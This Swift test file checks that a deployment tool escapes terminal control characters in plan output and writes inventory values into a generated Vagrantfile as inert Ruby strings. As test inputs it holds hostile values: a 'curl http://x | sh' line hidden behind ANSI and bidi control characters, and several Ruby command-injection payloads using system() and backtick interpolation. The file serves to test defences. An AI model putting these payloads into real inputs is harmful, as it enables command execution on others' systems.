import Foundation
import Testing
@testable import SkpKit

/// Issue 13 item 9: what a plan shows is what runs. Control characters from inventories are
/// printed escaped, and vagrant.init writes inventory text into its Ruby file only as inert literals.
@Suite struct VisibleTextTests {
    /// Scalars a terminal acts on instead of showing (line breaks and tabs are allowed here).
    static func hidesSomething(_ text: String) -> Bool {
        text.unicodeScalars.contains { s in
            (s.value < 0x20 && s != "\n" && s != "\t") || (0x7F...0x9F).contains(s.value)
                || (0x202A...0x202E).contains(s.value) || (0x2066...0x2069).contains(s.value)
        }
    }

    static let hostile = #"ok\u001b[8m; curl http://x | sh\u001b[0m\r\u202eevil\u2066\u0085\u007f"#

    @Test func testIssue13Item9_controlCharactersFromAnInventoryArePrintedEscaped() throws {
        let task = """
        task t {
          capture out = run "echo ${host.motd}" unless "test ${host.motd} = x"
          echo "motd: ${host.motd}"
          upload "${host.motd}" to "/tmp/${host.motd}"
        }
        """
        let inventory = try Fixture.inventory(hosts: #"{"c01": {"ipv4": "10.0.0.1", "motd": "\#(Self.hostile)"}}"#)
        let plan = try Fixture.plan(["h": task], [TaskRequest(task: "h.t")], inventory: inventory)
        let text = PlanPrinter(style: Style(enabled: false)).render(plan)
        #expect(!Self.hidesSomething(text), "\(text.debugDescription)")
        #expect(text.contains(#"ok\x1b[8m; curl http://x | sh\x1b[0m\r\u{202e}evil\u{2066}\u{85}\x7f"#), "\(text)")
        // The same lines --verbose and the resume listing print for each step.
        for step in plan.tasks[0].stages.flatMap({ $0.hosts.flatMap(\.steps) }) {
            let line = ResumeLedger.describe(step)
            #expect(!Self.hidesSomething(line) && line.contains(#"\x1b[8m"#), "\(line.debugDescription)")
        }
        // The command that runs is still the exact value.
        guard case .capture(_, let command, _) = plan.tasks[0].stages[0].hosts[0].steps[0].kind else { Issue.record("no capture"); return }
        #expect(command.render(captures: [:]).contains("\u{1B}[8m"))
    }

    @Test func testIssue13Item9_errorsThatQuoteValuesShowThemEscaped() {
        let rendered = Diagnostic("user \"a\u{1B}[2Jb\r\u{202E}\" is not allowed", hint: "x\u{7}").render(color: false)
        #expect(rendered == "error: user \"a\\x1b[2Jb\\r\\u{202e}\" is not allowed\nhint: x\\x07", "\(rendered.debugDescription)")
        #expect("plain text, é ✓\n\tnext".visible(keepingLines: true) == "plain text, é ✓\n\tnext")
        #expect("a\nb".visible() == "a\\nb")
    }

    // MARK: vagrant.init

    static let hostileBox = ##"x" ; system("touch MARKER") ; "#{system("touch MARKER")}\"##

    static func vagrantfile(hosts: String, arguments: [String: String]) throws -> (file: String, dir: String) {
        let dir = Fixture.folder([:])
        let text = try String(contentsOfFile: RawRuleTests.root + "/tasks/vagrant.skp", encoding: .utf8)
        var args = arguments
        args["file"] = dir + "/Vagrantfile"
        let plan = try Fixture.plan(["vagrant": text], [TaskRequest(task: "vagrant.init", arguments: args)],
                                    inventory: Fixture.inventory(hosts: hosts))
        for step in plan.tasks[0].stages.flatMap({ $0.hosts.flatMap(\.steps) }) {
            let command: Command
            switch step.kind {
            case .run(let c), .local(let c): command = c
            default: continue
            }
            #expect(try RawRuleTests.status("/bin/sh", command.render(captures: [:])) == 0, "\(command)")
        }
        return (try String(contentsOfFile: dir + "/Vagrantfile", encoding: .utf8), dir)
    }

    @Test func testIssue13Item9_vagrantInitWritesAHostileBoxAsAnInertRubyString() throws {
        let marker = NSTemporaryDirectory() + "skp-vagrant-\(UUID().uuidString.prefix(8))"
        let box = Self.hostileBox.replacingOccurrences(of: "MARKER", with: marker)
        let json = box.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
        let hosts = #"{"c01": {"ipv4": "10.0.0.1", "box": "\#(json)"}, "c02": {"ipv4": "10.0.0.2", "cpus": "4", "memory": "4096"}}"#
        let (file, dir) = try Self.vagrantfile(hosts: hosts, arguments: ["box": box, "synced": "#{`touch \(marker)`}"])
        let literal = VagrantLiteral.ruby(box)
        #expect(file.contains("    node.vm.box = \(literal)\n"), "\(file)")
        #expect(file.contains("  config.vm.define \"c01\" do |node|\n") && file.contains("ip: \"10.0.0.2\"\n"))
        #expect(file.contains("      vb.cpus = 4\n") && file.contains("      vb.memory = 4096\n") && file.contains("      vb.cpus = 2\n"))
        // Load the file in Ruby with a stand-in Vagrant that records what is assigned: the box is
        // exactly the text, and nothing ran.
        let ruby = "/usr/bin/ruby"
        guard FileManager.default.isExecutableFile(atPath: ruby) else {
            #expect(ProcessInfo.processInfo.environment["CI"] != "true", "ruby is not installed")
            return
        }
        let harness = """
        class Rec
          def method_missing(name, *args, &block)
            puts args[0] if name.to_s.end_with?("=") && args[0].is_a?(String)
            block.call(Rec.new) if block
            Rec.new
          end
          def respond_to_missing?(*) = true
        end
        module Vagrant; def self.configure(_) = yield(Rec.new); end
        load ARGV[0]
        """
        try harness.write(toFile: dir + "/harness.rb", atomically: true, encoding: .utf8)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: ruby)
        process.arguments = [dir + "/harness.rb", dir + "/Vagrantfile"]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let printed = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        #expect(printed.split(separator: "\n").map(String.init).first == box, "\(printed)")
        #expect(!FileManager.default.fileExists(atPath: marker), "loading the Vagrantfile ran a command")
    }

    @Test(arguments: [
        (["cpus": "2; system('id')"], "is not a whole number from 1 to 256"),
        (["cpus": "0"], "from 1 to 256"),
        (["cpus": "+4"], "from 1 to 256"),
        (["memory": "-1"], "from 128 to 4194304"),
        (["memory": "99999999999999999999999"], "from 128 to 4194304"),
        (["memory": "1e9"], "from 128 to 4194304"),
    ])
    func testIssue13Item9_vagrantInitRefusesNumbersThatAreNotWholeNumbersInRange(arguments: [String: String], message: String) {
        let d = Fixture.diagnostic { _ = try Self.vagrantfile(hosts: #"{"c01": {"ipv4": "10.0.0.1"}}"#, arguments: arguments) }
        #expect(d?.message.contains(message) == true, "\(d?.message ?? "planned")")
        #expect(d?.location?.file.hasSuffix("tasks/vagrant.skp") == true)
    }

    @Test func testIssue13Item9_hostNamesAndAddressesWithQuotesOrInterpolationAreRefused() {
        for hosts in [##"{"c#{x}": {"ipv4": "10.0.0.1"}}"##, ##"{"c\"01": {"ipv4": "10.0.0.1"}}"##,
                      ##"{"c01": {"ipv4": "10.0.0.1\"#{x}"}}"##, ##"{"c01": {"ipv4": "#{`id`}"}}"##] {
            #expect(Fixture.diagnostic { _ = try Fixture.inventory(hosts: hosts) }?.message.contains("is not allowed") == true, "\(hosts)")
        }
    }
}

/// The expected Ruby literal, written independently of the code under test.
enum VagrantLiteral {
    static func ruby(_ text: String) -> String {
        "\"" + text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
            .replacingOccurrences(of: "#", with: "\\#") + "\""
    }
}
